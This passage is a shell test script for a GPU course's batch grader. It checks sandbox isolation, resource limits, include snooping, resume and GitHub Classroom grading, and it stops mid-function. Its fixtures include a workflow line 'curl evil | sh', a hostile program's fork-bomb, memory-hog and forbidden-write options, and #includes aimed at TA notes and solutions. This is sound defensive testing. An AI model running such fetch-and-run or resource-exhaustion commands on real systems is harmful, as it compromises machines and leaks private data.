# SPDX-License-Identifier: MIT
#
# tests/batch/test.sh - the "batch" section of tests/run.sh (sourced: it
# uses run.sh's pass, fail, skip, in_box, can_box, $LOGS, $MAKE, $BUILD
# and $B). No GPU: the batch builds and checks (BUILD_ONLY=1), which is
# everything but the timing: extraction, the sandbox, isolation, resume,
# the gradebook.
#
#   class      13 generated submissions (tests/batch/make-class.sh) grade
#              into the verdicts of tests/batch/expected
#   sandbox    the malicious submission's compile-time #include and its
#              probe program, run in its sandbox by batch --exec, get
#              nothing; run outside, the same probe gets everything (so
#              the check is real); SKIP with the reason where bwrap cannot
#              make a sandbox
#   hostile    tests/batch/hostile.c through the wrapper every grading
#              path uses (batch --sandbox-exec, the test hook): not root;
#              cannot write the repository, other students' folders or the
#              results; no network; a fork bomb stops at the process limit,
#              another sandbox still forks meanwhile, nothing is left
#              after; a memory hog stops at the memory limit; of a fake
#              two-GPU /dev it sees only its own GPU's node. Outside, the
#              same program gets what the sandbox kept from it. In a
#              delegated cgroup v2 (root, a writable /sys/fs/cgroup) the
#              same with pids.max and memory.max. SKIP with the reason
#              where no sandbox can be made (the class then runs with
#              SANDBOX=off, so that everything else is still tested)
#   inputs     of the repository folder the sandbox shows the build inputs
#              alone: in a course's repository folder that holds a TA's
#              untracked note, last term's submissions and the solutions,
#              8 files that #include them (through the include path,
#              absolute, up from their own folder) are COMPILE ERRORs, and
#              no file the batch writes holds a word of them; preprocessed
#              in the sandbox by a rule with no check of its own, the same
#              #includes find nothing, and outside it everything
#   default    SANDBOX is required by default: with no bwrap on PATH (and
#              with the old SANDBOX=auto) make batch stops, grades nothing
#              and says how to install bubblewrap and how to opt out
#   loud       SANDBOX=off says so on stderr, in the summary, the
#              gradebook (UNSANDBOXED) and each report
#   audit      the gradebook's audit.tsv is written
#   resume     a second run grades nothing again; a run interrupted with
#              SIGINT leaves no half-written result and the next run
#              grades only what was left; a resubmission (a file changed)
#              is graded again, its new verdict replacing the old
#              (BATCH_ONLY=resubmit runs that check alone)
#
# The class's DIR is $BUILD/test-batch; logs go to $LOGS/batch-*.log.

case $BUILD in
/*) bt_dir=$BUILD/test-batch ;;
*) bt_dir=$(pwd)/$BUILD/test-batch ;;
esac
bt_bin=$BUILD/host/tools/batch/batch
bt_subs=$bt_dir/submissions
bt_out=$bt_dir/graded

# bt_make LOG [VAR=value...]: make batch on the class, settings as class.sh
bt_make() {
	bt_log=$1
	shift
	$bt_pre $MAKE --no-print-directory batch SUBMISSIONS="$bt_subs" OUT="$bt_out" \
		LAB=05-reduction TIMEOUT=30 BUILD_ONLY=1 BUILD="$BUILD" \
		${bt_off:+SANDBOX=off} "$@" > "$bt_log" 2>&1
}
bt_pre=""

# bt_wait_port FILE: the port a listener just started writes first into
# FILE (waiting up to 5 s for it)
bt_wait_port() {
	for _ in 1 2 3 4 5 6 7 8 9 10; do
		[ -s "$1" ] && break
		sleep 0.5
	done
	head -n 1 "$1"
}

# bt_listen: a fresh listener on the loopback; sets bt_lpid and bt_port
bt_listen() {
	"$bt_dir/listen" 300 > "$bt_dir/listen2.out" &
	bt_lpid=$!
	bt_port=$(bt_wait_port "$bt_dir/listen2.out")
}

bt_connections() { grep -c '^connection' "$bt_dir/listen2.out"; }

bt_unchanged() { cmp -s "$bt_subs/alice/05-reduction/sum.cu" solutions/05-reduction/sum.cu; }

# bt_probe: mallory's file as a program (WB_PROBE_MAIN), in her scratch
# folder (the one place her sandbox shows), aimed at the listener
bt_probe() {
	bt_nvcc=$(command -v nvcc || echo "${CUDA_HOME:-/usr/local/cuda}/bin/nvcc")
	mkdir -p "$bt_out/work/mallory"
	sed -e "s|@NEIGHBOUR@|$bt_subs/alice/05-reduction/sum.cu|g" \
	    -e "s|@REPO@|$(pwd)|g" -e "s|@OUT@|$bt_out|g" -e "s|@SUBS@|$bt_subs|g" \
	    -e "s|@PORT@|$bt_port|g" tests/batch/mallory-sum.cu.in > "$bt_dir/probe.cu" &&
	"$bt_nvcc" -DWB_PROBE_MAIN -std=c++17 -Icommon -Ilabs/05-reduction \
		-o "$bt_dir/probe" "$bt_dir/probe.cu" common/standalone.c \
		> "$LOGS/batch-probe-build.log" 2>&1 &&
	cp "$bt_dir/probe" "$bt_out/work/mallory/probe"
}

bt_sandbox() {
	if [ -n "$bt_off" ]; then
		skip "batch/sandbox: mallory's probe in the sandbox: no sandbox here ($box_why)"
		return 1
	fi
	if ! grep -q 'in the sandbox (bubblewrap)' "$bt_out/summary.txt" 2> /dev/null; then
		fail "batch/sandbox: the class was graded in the sandbox" "$LOGS/batch-class.log"
		return 1
	fi
	bt_log=$bt_out/students/mallory/logs/05-reduction/sum.log
	if grep -q 'compile-time .*nothing' "$bt_log" && ! grep -q 'GOT' "$bt_log"; then
		pass "batch/sandbox: a submission's #include of a neighbour's file finds nothing"
	else
		fail "batch/sandbox: a submission's #include of a neighbour's file finds nothing" "$bt_log"
	fi
	bt_listen
	if ! bt_probe; then
		fail "batch/sandbox: mallory's probe builds" "$LOGS/batch-probe-build.log"
		kill "$bt_lpid" 2> /dev/null
		return 1
	fi
	bt_sm=$(basename "$B" | sed 's/^sm//; s/-/ /g')
	"$bt_bin" --repo . --build "$BUILD" --objs "$B" --sm "$bt_sm" --build-only \
		--submissions "$bt_subs" --out "$bt_out" \
		--exec mallory -- "$bt_out/work/mallory/probe" > "$LOGS/batch-probe-boxed.log" 2>&1
	if grep -q '^probe: ran' "$LOGS/batch-probe-boxed.log" &&
	   ! grep -q 'GOT' "$LOGS/batch-probe-boxed.log" &&
	   [ "$(bt_connections)" -eq 0 ] && bt_unchanged &&
	   [ ! -e "$bt_out/students/pwned-by-mallory" ]; then
		pass "batch/sandbox: a submission's code reads no neighbour, reaches no network, writes nowhere but its folder"
	else
		echo "connections to the listener: $(bt_connections)" >> "$LOGS/batch-probe-boxed.log"
		fail "batch/sandbox: a submission's code reads no neighbour, reaches no network, writes nowhere but its folder" \
			"$LOGS/batch-probe-boxed.log"
	fi
	return 0
}

# The same probe with no sandbox: it must get what the sandbox kept from
# it, or the check above proves nothing. It writes into alice's file and
# the results, so it runs last.
bt_control() {
	"$bt_dir/probe" > "$LOGS/batch-probe-open.log" 2>&1
	sleep 1
	kill "$bt_lpid" 2> /dev/null
	if grep -q "neighbour's submission: GOT" "$LOGS/batch-probe-open.log" &&
	   [ "$(bt_connections)" -ge 1 ] && ! bt_unchanged; then
		pass "batch/sandbox: the same probe outside the sandbox gets all of it (the check above is real)"
	else
		fail "batch/sandbox: the same probe outside the sandbox gets all of it" \
			"$LOGS/batch-probe-open.log"
	fi
}

bt_loud() {
	sh tests/batch/make-class.sh "$bt_dir/open" "$bt_dir/open-graded" 1 alice \
		> "$LOGS/batch-open.log" 2>&1
	$MAKE --no-print-directory batch SUBMISSIONS="$bt_dir/open" \
		OUT="$bt_dir/open-graded" LAB=05-reduction BUILD_ONLY=1 SANDBOX=off \
		BUILD="$BUILD" >> "$LOGS/batch-open.log" 2>&1
	if [ "$(grep -c '^\*.*\*$' "$LOGS/batch-open.log")" -ge 5 ] &&
	   grep -q 'STUDENT CODE WILL RUN WITHOUT A SANDBOX (UNSANDBOXED)' "$LOGS/batch-open.log" &&
	   grep -q 'WARNING: UNSANDBOXED: 1 submission was graded WITHOUT a sandbox' "$bt_dir/open-graded/summary.txt" &&
	   grep -q '^alice,.*,graded UNSANDBOXED$' "$bt_dir/open-graded/gradebook.csv" &&
	   grep -q 'WARNING: UNSANDBOXED: graded WITHOUT a sandbox' "$bt_dir/open-graded/students/alice/report.txt"; then
		pass "batch/SANDBOX=off warns on several lines at the start, and writes UNSANDBOXED into the summary, the gradebook and each report"
	else
		fail "batch/SANDBOX=off warns loudly and writes UNSANDBOXED everywhere" "$LOGS/batch-open.log"
	fi
}

# bt_nobwrap: a PATH like this one with no bwrap on it (each folder that
# has one replaced by links to everything else in it)
bt_nobwrap() {
	bt_np=""
	bt_ifs=$IFS
	IFS=:
	for d in $PATH; do
		if [ -e "$d/bwrap" ]; then
			bt_sh=$bt_dir/nobwrap/$(echo "$d" | tr / _)
			mkdir -p "$bt_sh"
			for f in "$d"/*; do
				[ "${f##*/}" = bwrap ] || ln -sf "$f" "$bt_sh/"
			done
			d=$bt_sh
		fi
		bt_np=${bt_np:+$bt_np:}$d
	done
	IFS=$bt_ifs
	echo "$bt_np"
}

# SANDBOX is required by default (auto is another name for it): without
# bwrap nothing is graded, and the message says what to do.
bt_default() {
	sh tests/batch/make-class.sh "$bt_dir/nobox" "$bt_dir/nobox-graded" 1 alice \
		> "$LOGS/batch-nobwrap.log" 2>&1
	bt_np=$(bt_nobwrap)
	bt_ok=1
	for bt_mode in "" auto; do
		PATH=$bt_np $MAKE --no-print-directory batch SUBMISSIONS="$bt_dir/nobox" \
			OUT="$bt_dir/nobox-graded" LAB=05-reduction BUILD_ONLY=1 \
			BUILD="$BUILD" ${bt_mode:+SANDBOX=$bt_mode} >> "$LOGS/batch-nobwrap.log" 2>&1
		bt_rc=$?
		echo "== SANDBOX=${bt_mode:-(unset)}: status $bt_rc" >> "$LOGS/batch-nobwrap.log"
		[ $bt_rc -ne 0 ] || bt_ok=0
	done
	if [ $bt_ok = 1 ] && ! PATH=$bt_np command -v bwrap > /dev/null &&
	   [ "$(grep -c 'cannot make a sandbox: bubblewrap (bwrap) is not installed' "$LOGS/batch-nobwrap.log")" -eq 2 ] &&
	   grep -q 'apt-get install bubblewrap' "$LOGS/batch-nobwrap.log" &&
	   grep -q 'To grade WITHOUT a sandbox anyway.*SANDBOX=off' "$LOGS/batch-nobwrap.log" &&
	   [ ! -d "$bt_dir/nobox-graded/students/alice" ]; then
		pass "batch/SANDBOX defaults to require: without bwrap (PATH without it; also SANDBOX=auto) it stops, grades nothing, says how to install bubblewrap and how to opt out"
	else
		fail "batch/SANDBOX defaults to require: without bwrap it stops with the install message" \
			"$LOGS/batch-nobwrap.log"
	fi
}

# bt_resubmit_make: make batch on bt_resubmit's one-student class
bt_resubmit_make() {
	$MAKE --no-print-directory batch SUBMISSIONS="$bt_rs/subs" \
		OUT="$bt_rs/graded" LAB=05-reduction BUILD_ONLY=1 BUILD="$BUILD" \
		${bt_off:+SANDBOX=off} >> "$bt_rl" 2>&1
}

# A resubmission is graded again: resume skips a student only when her
# files are the ones graded (meta's fingerprint), and a changed file's
# new grade replaces the old one in the gradebook.
bt_resubmit() {
	bt_rs=$bt_dir/resubmit
	bt_rl=$LOGS/batch-resubmit.log
	rm -rf "$bt_rs"
	sh tests/batch/make-class.sh "$bt_rs/subs" "$bt_rs/graded" 1 alice \
		> "$bt_rl" 2>&1
	bt_resubmit_make
	grep -q '^alice,BUILT,BUILT,' "$bt_rs/graded/verdicts.csv" 2>> "$bt_rl"
	bt_first=$?
	bt_resubmit_make
	grep -q '1 graded before (not graded again), 0 to' "$bt_rl"
	bt_same=$?
	cp tests/broken/compile-error/05-reduction/sum.cu \
		"$bt_rs/subs/alice/05-reduction/sum.cu"
	bt_resubmit_make
	if [ $bt_first -eq 0 ] && [ $bt_same -eq 0 ] &&
	   grep -q '0 graded before (not graded again), 1 to' "$bt_rl" &&
	   grep -q '^alice,COMPILE_ERROR,BUILT,' "$bt_rs/graded/verdicts.csv"; then
		pass "batch/a resubmission (one file changed) is graded again and its new verdict replaces the old; unchanged, it is not"
	else
		cat "$bt_rs/graded/verdicts.csv" >> "$bt_rl" 2>&1
		fail "batch/a resubmission is graded again, its new verdict replacing the old" "$bt_rl"
	fi
}

# The instructor's walk of issue #33 (tests/batch/instructor.sh): ids
# that cannot swap, links, a space in the path, deadlines and late
# penalties from times the student cannot set, the rules of a gradebook
# (a fixed grader regrades or refuses, REGRADE=), build-only scores,
# SANDBOX=off's GPU lock, the Slurm script as generated. One pass or
# fail per check it makes.
bt_instructor() {
	bt_il=$LOGS/batch-instructor.log
	BUILD="$BUILD" MAKE="$MAKE" SANDBOX=${bt_off:+off} \
		sh tests/batch/instructor.sh "$bt_dir/instructor" > "$bt_il" 2>&1
	# (a loop on a pipe would count in a subshell: from a file)
	grep '^ok   \|^FAIL ' "$bt_il" > "$bt_il.checks"
	while read -r w t; do
		if [ "$w" = ok ]; then
			pass "batch/instructor: $t"
		else
			fail "batch/instructor: $t" "$bt_il"
		fi
	done < "$bt_il.checks"
	grep -q '^instructor: every check held$' "$bt_il" ||
		grep -q '^FAIL ' "$bt_il" ||
		fail "batch/instructor: tests/batch/instructor.sh ran to its end" "$bt_il"
}

# heidi handed in sum.cpp and a README: her report names the file she
# meant, lists sum and argmax as missing, and its table and the gradebook
# say the same thing (COMPILE ERROR: no file to build).
bt_agree() {
	bt_r=$bt_out/students/heidi/report.txt
	if grep -q 'sum.cpp .*did you mean 05-reduction/sum.cu?' "$bt_r" &&
	   grep -q '^Missing (0 points' "$bt_r" &&
	   [ "$(grep -c 'COMPILE ERROR' "$bt_r")" -ge 2 ] &&
	   grep -q '^heidi,COMPILE_ERROR,COMPILE_ERROR,' "$bt_out/verdicts.csv"; then
		pass "batch/a near-miss file name gets 'did you mean 05-reduction/sum.cu?', and the gradebook says COMPILE_ERROR where the report does"
	else
		cat "$bt_r" "$bt_out/verdicts.csv" > "$LOGS/batch-agree.log" 2>&1
		fail "batch/did you mean, and the gradebook agrees with the report" "$LOGS/batch-agree.log"
	fi
}

# GitHub Classroom as a pull model (tools/classroom/pull.sh): two
# students' repositories (bare ones here, as on GitHub), each with a
# workflow file the batch must ignore; fetched, graded by make batch,
# and each report and score pushed back to a grading branch.
bt_classroom() {
	bt_c=$bt_dir/classroom
	bt_cl=$LOGS/batch-classroom.log
	rm -rf "$bt_c"
	mkdir -p "$bt_c"
	: > "$bt_c/repos"
	for s in alice dave; do
		w=$bt_c/work-$s
		mkdir -p "$w/labs/05-reduction" "$w/.github/workflows"
		echo "jobs: { grade: { runs-on: [self-hosted, gpu], steps: [ { run: 'curl evil | sh' } ] } }" \
			> "$w/.github/workflows/classroom.yml"
		cp solutions/05-reduction/argmax.cu "$w/labs/05-reduction/argmax.cu"
		if [ $s = alice ]; then
			cp solutions/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
		else
			cp tests/broken/compile-error/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
		fi
		git init -q --bare --initial-branch=main "$bt_c/$s.git"
		(cd "$w" && git init -q && git add . &&
		 git -c user.name=$s -c user.email=$s@x commit -qm hw &&
		 git push -q "$bt_c/$s.git" HEAD:main) >> "$bt_cl" 2>&1
		echo "$s file://$bt_c/$s.git" >> "$bt_c/repos"
	done
	{
		sh tools/classroom/pull.sh fetch "$bt_c/repos" "$bt_c/subs" &&
		$MAKE --no-print-directory batch SUBMISSIONS="$bt_c/subs" OUT="$bt_c/graded" \
			LAB=05-reduction BUILD_ONLY=1 BUILD="$BUILD" ${bt_off:+SANDBOX=off} &&
		sh tools/classroom/pull.sh push "$bt_c/repos" "$bt_c/subs" "$bt_c/graded"
	} >> "$bt_cl" 2>&1
	bt_rc=$?
	bt_ok=1
	for s in alice dave; do
		git -C "$bt_c/$s.git" show grading:grading/report.txt > "$bt_c/$s.report" 2>> "$bt_cl" &&
		cmp -s "$bt_c/$s.report" "$bt_c/graded/students/$s/report.txt" &&
		git -C "$bt_c/$s.git" show grading:grading/score.txt 2>> "$bt_cl" |
			grep -q "^commit $(git -C "$bt_c/$s.git" rev-parse main)$" || bt_ok=0
	done
	if [ $bt_rc -eq 0 ] && [ $bt_ok = 1 ] &&
	   grep -q '^dave,COMPILE_ERROR,BUILT,' "$bt_c/graded/verdicts.csv" &&
	   grep -q 'classroom.yml  (not a file students may edit)' "$bt_c/graded/students/alice/report.txt" &&
	   [ "$(git -C "$bt_c/alice.git" rev-parse main)" = "$(git -C "$bt_c/work-alice" rev-parse HEAD)" ]; then
		pass "batch/GitHub Classroom, pulled: two repositories fetched, graded by make batch (their workflow files ignored), each report and score pushed to a grading branch, main untouched"
	else
		fail "batch/GitHub Classroom, pulled: fetch, make batch, push" "$bt_cl"
	fi
}

# The device acceptance run (tests/gpu/class-batch.sh), build-only: 24
# submissions of two labs under one course file, the gradebook, the CSVs
# and the reports checked against each other.
bt_class_batch() {
	if BUILD="$BUILD" MAKE="$MAKE" BUILD_ONLY=1 SANDBOX=${bt_off:+off} \
		sh tests/gpu/class-batch.sh "$bt_dir/class-batch" > "$LOGS/batch-class-batch.log" 2>&1; then
		pass "batch/tests/gpu/class-batch.sh, build-only: $(sed 's/ on no GPU.*//' "$bt_dir/class-batch/wall-time.txt"); gradebook, verdicts, scores.csv and reports agree"
	else
		fail "batch/tests/gpu/class-batch.sh, build-only" "$LOGS/batch-class-batch.log"
	fi
}

bt_audit() {
	if [ "$(head -n 1 "$bt_out/audit.tsv" 2> /dev/null)" = "$(printf 'student\texercise\tverdict\taudit')" ] &&
	   awk -F '\t' 'NR > 1 && (NF != 4 || ($3 != "REJECTED" && $3 != "SUSPICIOUS" && $4 == "-")) { bad = 1 }
		END { exit bad }' "$bt_out/audit.tsv"; then
		pass "batch/the gradebook's audit.tsv lists audit words, REJECTED and SUSPICIOUS ($(($(wc -l < "$bt_out/audit.tsv") - 1)) lines here)"
	else
		fail "batch/the gradebook's audit.tsv" "$bt_out/audit.tsv"
	fi
}

# ---- hostile: what the sandbox guarantees, one by one -------------------

# bt_hostile_setup: the results, a neighbour's folder, the scratch folder
# the hostile program runs in (the program in it), a fake /dev of two GPUs
bt_hostile_setup() {
	bt_h=$bt_dir/hostile
	rm -rf "$bt_h"
	mkdir -p "$bt_h/out/students/alice" "$bt_h/out/work/bob" \
		"$bt_h/out/work/mallory" "$bt_h/dev/nvidia-caps"
	for n in nvidia0 nvidia1 nvidiactl nvidia-uvm nvidia-uvm-tools \
		nvidia-modeset nvidia-caps/nvidia-cap1; do
		: > "$bt_h/dev/$n"
	done
	for g in 0 1; do
		mkdir -p "$bt_h/gpus/0000:0$g:00.0"
		printf 'Model: \t\t Fake\nGPU UUID: \t GPU-fake%d\nDevice Minor: \t %d\n' \
			$g $g > "$bt_h/gpus/0000:0$g:00.0/information"
	done
	${CC:-cc} -O2 -o "$bt_h/hostile" tests/batch/hostile.c \
		> "$LOGS/batch-hostile-build.log" 2>&1 &&
	cp "$bt_h/hostile" "$bt_h/out/work/mallory/hostile"
}

# bt_hostile_run LOG [batch options...] -- [hostile arguments...]
bt_hostile_run() {
	bt_hl=$1
	shift
	in_box "$bt_h/out/work/mallory" "$@" > "$bt_hl" 2>&1
}

# Processes of the hostile program still alive (none once a sandbox ended).
bt_left() {
	for p in /proc/[0-9]*; do
		{ tr '\0' ' ' < "$p/cmdline"; } 2> /dev/null
		echo
	done | grep -c "^$bt_h/out/work/mallory/hostile "
}

bt_hostile() {
	if [ -n "$bt_off" ]; then
		skip "batch/hostile: a hostile program in the sandbox: no sandbox here ($box_why)"
		return
	fi
	if ! bt_hostile_setup; then
		fail "batch/hostile: tests/batch/hostile.c builds" "$LOGS/batch-hostile-build.log"
		return
	fi
	cp Makefile "$bt_h/Makefile.before"
	"$bt_dir/listen" 300 > "$bt_h/listen.out" &
	bt_hpid=$!
	bt_hport=$(bt_wait_port "$bt_h/listen.out")
	bt_hl=$LOGS/batch-hostile.log
	bt_hostile_run "$bt_hl" --mem 256M -- "$bt_h/out/work/mallory/hostile" \
		--write "$(pwd)/Makefile" --write "$(pwd)/labs" \
		--write "$bt_h/out/students/alice" --write "$bt_h/out/work/bob" \
		--write "$bt_h/out/work/mallory" --connect "$bt_hport" \
		--fork 100000 -1 --mem 1024
	bt_nproc=$(sed -n 's/^batch: sandbox: .*at most \([0-9]*\) processes.*/\1/p' "$bt_hl")
	bt_forked=$(sed -n 's/^fork: \([0-9]*\) processes, then .*/\1/p' "$bt_hl")
	bt_mem=$(sed -n 's/^mem: stopped at \([0-9]*\) MiB.*/\1/p' "$bt_hl")
	if ! grep -q '^hostile: done' "$bt_hl"; then
		fail "batch/hostile: the program runs in the sandbox" "$bt_hl"
		kill "$bt_hpid" 2> /dev/null
		return
	fi
	if grep -q '^hostile: uid [1-9][0-9]*, gid [1-9]' "$bt_hl"; then
		pass "batch/hostile: it runs as a non-root uid and gid ($(sed -n 's/^hostile: //p' "$bt_hl" | head -n 1))"
	else
		fail "batch/hostile: it runs as a non-root uid" "$bt_hl"
	fi
	if [ "$(grep -c '^write .*: refused' "$bt_hl")" -eq 4 ] &&
	   grep -q "^write $bt_h/out/work/mallory: GOT it" "$bt_hl" &&
	   cmp -s Makefile "$bt_h/Makefile.before" && [ ! -e labs/hostile-was-here ] &&
	   [ -z "$(find "$bt_h/out/students" "$bt_h/out/work/bob" -type f)" ]; then
		pass "batch/hostile: it cannot write the repository, another student's folder or the results; only its own folder"
	else
		fail "batch/hostile: it cannot write the repository, other students' folders or the results" "$bt_hl"
	fi
	if grep -q "^connect 127.0.0.1:$bt_hport: refused" "$bt_hl" &&
	   grep -q '^interfaces: lo$' "$bt_hl" && ! grep -q '^connection' "$bt_h/listen.out"; then
		pass "batch/hostile: no network (a loopback of its own; the host's listener gets no connection)"
	else
		fail "batch/hostile: no network" "$bt_hl"
	fi
	if [ -n "$bt_nproc" ] && [ -n "$bt_forked" ] && [ "$bt_forked" -lt "$bt_nproc" ] &&
	   [ "$bt_forked" -ge $((bt_nproc / 2)) ] && [ "$(bt_left)" -eq 0 ]; then
		pass "batch/hostile: a fork bomb stops at the process limit ($bt_forked processes of $bt_nproc), and what it leaves running ends with its sandbox"
	else
		fail "batch/hostile: a fork bomb stops at the process limit (${bt_forked:-?} of ${bt_nproc:-?}; left: $(bt_left))" "$bt_hl"
	fi
	if [ -n "$bt_mem" ] && [ "$bt_mem" -le 256 ] && ! grep -q '^mem: GOT' "$bt_hl"; then
		pass "batch/hostile: a memory hog stops at the memory limit (RLIMIT_DATA 256 MiB: $bt_mem MiB)"
	else
		fail "batch/hostile: a memory hog stops at the memory limit" "$bt_hl"
	fi
	bt_neighbours
	bt_gpu_nodes
	bt_cgroup
	bt_hostile_control
}

# While one sandbox holds all the processes it may have, another still
# forks: the limit is each sandbox's own (in a user namespace).
bt_neighbours() {
	if grep -q 'no user namespace' "$LOGS/batch-hostile.log"; then
		skip "batch/hostile: each sandbox has its own process limit: no user namespace here, where the limit counts the sandbox account's processes over the machine (docs/batch-grading.md)"
		return
	fi
	bt_hostile_run "$LOGS/batch-hostile-bomb.log" -- \
		"$bt_h/out/work/mallory/hostile" --fork 100000 6 &
	bt_bomb=$!
	for _ in $(seq 50); do
		grep -q '^fork: ' "$LOGS/batch-hostile-bomb.log" 2> /dev/null && break
		sleep 0.2
	done
	mkdir -p "$bt_h/out/work/bob2"
	cp "$bt_h/hostile" "$bt_h/out/work/bob2/hostile"
	in_box "$bt_h/out/work/bob2" -- "$bt_h/out/work/bob2/hostile" --fork 40 0 \
		> "$LOGS/batch-hostile-neighbour.log" 2>&1
	bt_held=$(grep '^fork: ' "$LOGS/batch-hostile-bomb.log")
	wait "$bt_bomb"
	if [ -n "$bt_held" ] && grep -q '^fork: 40 processes' "$LOGS/batch-hostile-neighbour.log"; then
		pass "batch/hostile: while a fork bomb holds its sandbox's processes ($bt_held), another sandbox forks 40"
	else
		cat "$LOGS/batch-hostile-bomb.log" >> "$LOGS/batch-hostile-neighbour.log"
		fail "batch/hostile: another sandbox still forks during a fork bomb" "$LOGS/batch-hostile-neighbour.log"
	fi
}

# A fake /dev of two GPUs (tests' --dev-dir and --nvidia-proc): grading on
# the second, the sandbox sees its node and the shared ones, not the
# first's; a GPU the driver does not list gets every node, and the log
# says so.
bt_gpu_nodes() {
	bt_gl=$LOGS/batch-hostile-gpu.log
	: > "$bt_gl"
	for g in GPU-fake1 GPU-unknown; do
		"$bt_bin" --sandbox-exec --scratch "$bt_h/out/work/mallory" --repo . \
			--build "$BUILD" --objs "$B" --gpus "$g" --dev-dir "$bt_h/dev" \
			--nvidia-proc "$bt_h/gpus" -- "$bt_h/out/work/mallory/hostile" --dev \
			>> "$bt_gl" 2>&1
	done
	bt_own=$(grep '^dev:' "$bt_gl" | head -n 1)
	bt_all=$(grep '^dev:' "$bt_gl" | sed -n 2p)
	if [ -z "$bt_own" ] && grep -q '^bwrap: ' "$bt_gl"; then
		# A GPU sandbox also binds /sys, which some containers refuse.
		skip "batch/hostile: it sees only its own GPU's /dev/nvidia node: bwrap cannot make a GPU sandbox here ($(grep -m 1 '^bwrap: ' "$bt_gl"))"
		return
	fi
	if [ "$bt_own" = "dev: nvidia-caps nvidia-uvm nvidia-uvm-tools nvidia1 nvidiactl" ] &&
	   grep -q 'GPU GPU-fake1 (GPU-fake1): its sandbox sees /dev/nvidia1 and no other' "$bt_gl" &&
	   echo "$bt_all" | grep -qw nvidia0 && echo "$bt_all" | grep -qw nvidia-modeset &&
	   grep -q 'GPU GPU-unknown: which /dev/nvidia node is it?.*EVERY' "$bt_gl"; then
		pass "batch/hostile: of a fake two-GPU /dev it sees only its own GPU's node (and the shared ones); where that cannot be told, every node, and the log says so"
	else
		fail "batch/hostile: it sees only its own GPU's /dev/nvidia node" "$bt_gl"
	fi
}

# pids.max and memory.max in a cgroup of its own, where one can be made.
bt_cgroup() {
	bt_t="batch/hostile: in a delegated cgroup v2, pids.max and memory.max stop a fork bomb and a memory hog, and the cgroup is removed after"
	if [ "$(id -u)" != 0 ]; then
		skip "$bt_t: making a cgroup to delegate needs root here"
		return
	fi
	if [ "$(stat -f -c %T /sys/fs/cgroup 2> /dev/null)" != cgroup2fs ]; then
		skip "$bt_t: /sys/fs/cgroup is not cgroup v2 here"
		return
	fi
	bt_cg=/sys/fs/cgroup/wb-test-$$
	if ! mkdir "$bt_cg" 2> /dev/null ||
	   ! echo "+pids +memory" > "$bt_cg/cgroup.subtree_control" 2> /dev/null; then
		rmdir "$bt_cg" 2> /dev/null
		skip "$bt_t: /sys/fs/cgroup cannot be written here, or has no pids and memory controllers to give"
		return
	fi
	bt_cl=$LOGS/batch-hostile-cgroup.log
	bt_hostile_run "$bt_cl" --cgroup "$bt_cg" --nproc 64 --mem 256M -- \
		"$bt_h/out/work/mallory/hostile" --fork 100000 0 --mem 1024
	bt_forked=$(sed -n 's/^fork: \([0-9]*\) processes, then .*/\1/p' "$bt_cl")
	bt_last=$(sed -n 's/^mem: \([0-9]*\) MiB$/\1/p' "$bt_cl" | tail -n 1)
	if grep -q 'pids.max' "$bt_cl" && [ -n "$bt_forked" ] && [ "$bt_forked" -lt 64 ] &&
	   [ -n "$bt_last" ] && [ "$bt_last" -le 256 ] && ! grep -q '^mem: GOT' "$bt_cl" &&
	   [ -z "$(ls -d "$bt_cg"/wb-* 2> /dev/null)" ]; then
		pass "$bt_t ($bt_forked processes of 64; killed after $bt_last MiB of 256)"
	else
		ls -d "$bt_cg"/* >> "$bt_cl" 2>&1
		fail "$bt_t" "$bt_cl"
	fi
	rmdir "$bt_cg"/wb-* "$bt_cg" 2> /dev/null
}

# The same program outside the sandbox gets what the sandbox kept from
# it: the checks above are real.
bt_hostile_control() {
	bt_cl=$LOGS/batch-hostile-open.log
	"$bt_h/hostile" --write "$bt_h/out/students/alice" --write "$bt_h/out/work/bob" \
		--connect "$bt_hport" --fork 300 0 > "$bt_cl" 2>&1
	sleep 1
	kill "$bt_hpid" 2> /dev/null
	if [ "$(grep -c '^write .*: GOT it' "$bt_cl")" -eq 2 ] &&
	   grep -q "^connect 127.0.0.1:$bt_hport: GOT" "$bt_cl" &&
	   grep -q '^fork: 300 processes' "$bt_cl" && grep -q '^connection' "$bt_h/listen.out"; then
		pass "batch/hostile: the same program outside the sandbox writes there, connects and forks 300 (the checks above are real)"
	else
		fail "batch/hostile: the same program outside the sandbox gets all of it" "$bt_cl"
	fi
}

# ---- inputs: of the repository, the sandbox shows the build inputs alone --

# What a course keeps in its repository folder that no submission may see,
# each with a word of its own to look for (one identifier: a compiler's
# message and the preprocessor's output quote it whole): a TA's untracked
# note, last term's submissions (another student's kernel), the solutions.
bt_note=TA_NOTE_SECRET_5b1e
bt_old=hw1_victor_kernel_a7c3
bt_sol=SOLUTION_TEXT_9d2f

# bt_snoop ID EX PATH WHY: a submission whose EX.cu is one #include of PATH
bt_snoop() {
	mkdir -p "$bt_r/hw2-submissions/$1/05-reduction"
	printf '/* %s */\n#include "%s"\n' "$4" "$3" \
		> "$bt_r/hw2-submissions/$1/05-reduction/$2.cu"
}

# bt_inputs_setup: a course's repository folder, $bt_r: the build inputs
# (copies, their times kept, so that nothing prebuilt is out of date); a
# TA's note; hw1-submissions/victor/ (the solutions, a kernel of victor's
# added); solutions/ (marked); and this term's hw2-submissions/, whose four
# students #include those by every kind of path: through the include path
# (-Icommon, -Ilabs/<lab>), absolute, and up from the file's own folder
# (OUT/work/<id>/src/05-reduction lies five folders below $bt_r), with no
# link.
bt_inputs_setup() {
	bt_r=$bt_dir/course
	bt_v=hw1-submissions/victor/05-reduction
	rm -rf "$bt_r"
	mkdir -p "$bt_r/$bt_v" "$bt_r/solutions" &&
	cp -pR Makefile labs common grader calibrations "$bt_r/" &&
	cp -pR solutions/05-reduction "$bt_r/solutions/" || return 1
	echo "int $bt_sol;" >> "$bt_r/solutions/05-reduction/argmax.cu"
	printf 'hw2 regrades: %s\n' "$bt_note" > "$bt_r/ta-notes.txt"
	for e in sum argmax; do
		{ cat "solutions/05-reduction/$e.cu"
		  echo "__global__ void ${bt_old}_$e(float *x) { x[0] = 0; }"
		} > "$bt_r/$bt_v/$e.cu"
	done
	bt_up=../../../../..
	bt_snoop uma sum ../ta-notes.txt "the note, through -Icommon"
	bt_snoop uma argmax "$bt_r/ta-notes.txt" "the note, absolute"
	bt_snoop walt sum "$bt_up/ta-notes.txt" "the note, up from here"
	bt_snoop walt argmax ../../solutions/05-reduction/argmax.cu \
		"a solution, through -Ilabs/05-reduction"
